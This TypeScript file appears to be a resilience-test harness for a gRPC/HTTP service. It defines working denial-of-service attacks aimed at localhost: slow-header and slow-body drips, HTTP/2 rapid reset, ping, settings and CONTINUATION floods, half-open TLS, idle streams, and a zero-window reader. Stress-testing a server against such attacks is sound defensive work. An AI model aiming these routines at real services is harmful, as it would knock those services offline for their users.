import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  callHeaders,
  flag,
  frame,
  frameType,
  grpcMessage,
  headerBlock,
  preface,
  settings,
} from './http2-frames.js';

/** Where an attacker aims, what it knows, and until when. */
export interface Aim {
  readonly grpcPort: number;
  readonly httpPort: number;
  /** The key of a tenant: some attackers are customers. */
  readonly key: string;
  readonly until: AbortSignal;
}

/** Attacks until it is told to end, and counts what it did: connections, streams, frames. */
export type Attack = (aim: Aim) => Promise<number>;

const LIST_RUNS = '/sealflow.run.v1.RunService/ListRuns';
const DRIP_MS = 400;
const hello = Buffer.concat([preface, settings()]);

/** Opens connections and lets none of them be a reason to fail. */
class Crowd {
  readonly #sockets = new Set<Socket>();

  constructor(private readonly until: AbortSignal) {}

  /** Null where nobody answers. Reads and forgets what comes, unless the attack reads for itself. */
  async open(port: number, reads = true): Promise<Socket | null> {
    if (this.until.aborted) return null;
    const socket = connect({ port, host: '127.0.0.1', noDelay: true });
    this.#sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => this.#sockets.delete(socket));
    if (reads) socket.resume();
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined);
    return socket.destroyed ? null : socket;
  }

  close(): void {
    for (const socket of this.#sockets) socket.destroy();
  }
}

function attack(play: (aim: Aim, crowd: Crowd) => Promise<number>): Attack {
  return async (aim) => {
    const crowd = new Crowd(aim.until);
    try {
      return await play(aim, crowd);
    } finally {
      crowd.close();
    }
  };
}

/** Many connections, each given a byte now and then; one that is closed is opened again. */
function dripping(many: number, port: (aim: Aim) => number, first: Buffer, drip: () => Buffer): Attack {
  return attack(async (aim, crowd) => {
    let connections = 0;
    const one = async (): Promise<void> => {
      while (!aim.until.aborted) {
        const socket = await crowd.open(port(aim));
        if (socket === null) {
          await sleep(DRIP_MS);
          continue;
        }
        connections += 1;
        socket.write(first);
        while (!aim.until.aborted && !socket.destroyed) {
          await sleep(DRIP_MS);
          socket.write(drip());
        }
      }
    };
    await Promise.all(Array.from({ length: many }, one));
    return connections;
  });
}

/** Few connections, each given the same bytes as fast as they are taken. */
function flooding(
  many: number,
  begin: (aim: Aim) => Buffer,
  next: (turn: number, aim: Aim) => Buffer,
): Attack {
  return attack(async (aim, crowd) => {
    let frames = 0;
    const one = async (): Promise<void> => {
      while (!aim.until.aborted) {
        const socket = await crowd.open(aim.grpcPort);
        if (socket === null) {
          await sleep(50);
          continue;
        }
        socket.write(begin(aim));
        for (let turn = 0; !aim.until.aborted && !socket.destroyed; turn += 1) {
          const taken = socket.write(next(turn, aim));
          frames += 1;
          if (taken) await sleep(0);
          else
            await Promise.race([once(socket, 'drain'), once(socket, 'close'), sleep(DRIP_MS)]).catch(
              () => undefined,
            );
        }
      }
    };
    await Promise.all(Array.from({ length: many }, one));
    return frames;
  });
}

/** Streams of calls that begin and never go on, a thousand on each connection. */
function idleStreams(streams: number, key: (aim: Aim) => string | null): Attack {
  return attack(async (aim, crowd) => {
    const perConnection = 1_000;
    let opened = 0;
    const one = async (): Promise<void> => {
      const socket = await crowd.open(aim.grpcPort, false);
      if (socket === null) return;
      answerPings(socket);
      socket.write(hello);
      const block = callHeaders(LIST_RUNS, key(aim));
      for (let index = 0; index < perConnection && !aim.until.aborted; index += 1) {
        socket.write(frame(frameType.headers, flag.endHeaders, index * 2 + 1, block));
        opened += 1;
        if (index % 100 === 99) await sleep(1);
      }
      while (!aim.until.aborted && !socket.destroyed) await sleep(DRIP_MS);
    };
    await Promise.all(Array.from({ length: streams / perConnection }, one));
    return opened;
  });
}

/** Answers the keep-alive of a server, so that it counts as a peer that lives. */
function answerPings(socket: Socket): void {
  let rest = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    rest = Buffer.concat([rest, chunk]);
    while (rest.length >= 9) {
      const size = rest.readUIntBE(0, 3);
      if (rest.length < 9 + size) return;
      const [type, flags] = [rest.readUInt8(3), rest.readUInt8(4)];
      const payload = rest.subarray(9, 9 + size);
      if (type === frameType.ping && (flags & flag.ack) === 0)
        socket.write(frame(type, flag.ack, 0, payload));
      if (type === frameType.settings && (flags & flag.ack) === 0)
        socket.write(frame(type, flag.ack, 0, Buffer.alloc(0)));
      rest = rest.subarray(9 + size);
    }
  });
}

const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8));
const aByte = (): Buffer => Buffer.from('a');
const grpc = ({ grpcPort }: Aim): number => grpcPort;
const http = ({ httpPort }: Aim): number => httpPort;
const repeat = (bytes: Buffer, times: number): Buffer =>
  Buffer.concat(Array.from({ length: times }, () => bytes));

/** A ClientHello record that says 512 bytes and stops after its version (RFC 8446 section 4.1.2). */
const halfHello = Buffer.from('160301020001000001fc0303', 'hex');

/** Who is slow, and who is hostile. Every one of them leaves when it is told to. */
export const attacks: Readonly<Record<string, Attack>> = {
  'http slow headers': dripping(
    200,
    http,
    Buffer.from('GET /healthz HTTP/1.1\r\nhost: a\r\nx-slow: '),
    aByte,
  ),
  'http slow body': dripping(
    200,
    http,
    Buffer.from('POST /healthz HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n'),
    aByte,
  ),
  'http oversize headers': dripping(
    20,
    http,
    Buffer.from('GET /healthz HTTP/1.1\r\nhost: a\r\nx-big: '),
    () => Buffer.alloc(64 * 1024, 'b'),
  ),
  'http garbage': dripping(50, http, randomBytes(2_048), () => randomBytes(2_048)),
  'grpc slow preface': dripping(200, grpc, preface.subarray(0, 10), () => Buffer.alloc(0)),
  'grpc half-open TLS': dripping(200, grpc, halfHello, () => Buffer.alloc(0)),
  'grpc garbage frames': dripping(50, grpc, hello, () => {
    const kind = randomBytes(2);
    return frame(kind[0] ?? 0, kind[1] ?? 0, randomBytes(2).readUInt16BE(), randomBytes(512));
  }),
  'grpc oversize message': flooding(
    4,
    ({ key }) =>
      Buffer.concat([
        hello,
        frame(frameType.headers, flag.endHeaders, 1, callHeaders(LIST_RUNS, key)),
        frame(frameType.data, 0, 1, grpcMessage(Buffer.alloc(0), 0xffff_ffff)),
      ]),
    () => frame(frameType.data, 0, 1, Buffer.alloc(16_384)),
  ),
  'grpc slow message': dripping(
    100,
    grpc,
    Buffer.concat([hello, frame(frameType.headers, flag.endHeaders, 1, callHeaders(LIST_RUNS, null))]),
    () => frame(frameType.data, 0, 1, Buffer.from([0])),
  ),
  'rapid reset': flooding(
    4,
    () => hello,
    (turn, { key }) => {
      const block = callHeaders(LIST_RUNS, key);
      const frames = Array.from({ length: 50 }, (_, index) => {
        const stream = (turn * 50 + index) * 2 + 1;
        const cancel = Buffer.from([0, 0, 0, 8]);
        return Buffer.concat([
          frame(frameType.headers, flag.endHeaders, stream, block),
          frame(frameType.reset, 0, stream, cancel),
        ]);
      });
      return Buffer.concat(frames);
    },
  ),
  'ping flood': flooding(
    4,
    () => hello,
    () => repeat(ping, 500),
  ),
  'settings flood': flooding(
    4,
    () => hello,
    () => repeat(settings([4, 65_535]), 500),
  ),
  'CONTINUATION flood': flooding(
    4,
    () => Buffer.concat([hello, frame(frameType.headers, 0, 1, callHeaders(LIST_RUNS, null))]),
    () => frame(frameType.continuation, 0, 1, headerBlock({ 'x-more': 'c'.repeat(8_000) })),
  ),
  'idle streams': idleStreams(10_000, () => null),
  'idle streams of a customer': idleStreams(10_000, ({ key }) => key),
  'reader that takes nothing': flooding(
    4,
    () => Buffer.concat([preface, settings([4, 0])]),
    (turn, { key }) =>
      Buffer.concat([
        frame(frameType.headers, flag.endHeaders, turn * 2 + 1, callHeaders(LIST_RUNS, key)),
        frame(
          frameType.data,
          flag.endStream,
          turn * 2 + 1,
          grpcMessage(Buffer.from('\n\u000ftenants/mallory', 'latin1')),
        ),
      ]),
  ),
};
